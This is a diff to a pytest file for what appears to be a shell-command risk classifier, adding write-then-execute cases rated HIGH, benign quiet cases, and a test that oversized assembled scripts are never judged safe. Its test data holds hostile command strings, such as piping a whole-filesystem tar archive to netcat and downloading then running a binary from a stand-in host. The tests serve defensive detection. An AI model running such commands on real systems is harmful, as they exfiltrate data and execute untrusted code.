@@ -243,6 +243,10 @@ FLOWS = [
     ("tar cz / | nc h 1", Level.HIGH),
     ("curl -o a https://x.io; install -m 755 -t bin a; ./bin/a", Level.HIGH),
     ("curl -o a https://x.io; cp -t bin a; bin/a", Level.HIGH),
+    ("mytool > run.sh; bash run.sh", Level.HIGH),
+    ("mytool > run.sh; chmod +x run.sh; ./run.sh", Level.HIGH),
+    ("mytool | tee run.sh; sh run.sh", Level.HIGH),
+    ("(echo xxxxxxxxx; cat big) > s.sh; sh s.sh", Level.HIGH),
 ]  # fmt: skip
 
 
@@ -398,6 +402,9 @@ QUIET = [
     "psql --pager=off -c 'select 1'",
     "install -m 755 a b",
     "rsync -avz --exclude .git --exclude node_modules ./ backup/",
+    "cp a.sh b.sh; sh b.sh",
+    "touch x.sh; sh x.sh",
+    "make > build.log; tail build.log",
 ]  # fmt: skip
 
 
@@ -429,3 +436,9 @@ def test_looking_around_is_noted_and_never_adds_up(script: str, factor: str) -> 
 @pytest.mark.parametrize("script", ["ip link set eth0 down", "mount /dev/sdb1 /mnt", "iptables -F"])
 def test_what_does_more_than_look_is_no_discovery(script: str) -> None:
     assert not any(f.category == "discovery" for f in judge(script).factors)
+
+
+def test_a_script_that_is_put_together_beyond_what_is_remembered_is_never_called_safe() -> None:
+    pieces = "\n".join("echo " + "a" * 30_000 + " >> x.sh" for _ in range(3))
+    assert judge(f"{pieces}\nsh x.sh").level >= Level.UNKNOWN
+    assert judge(f"{pieces}\nchmod +x x.sh; ./x.sh").level >= Level.UNKNOWN
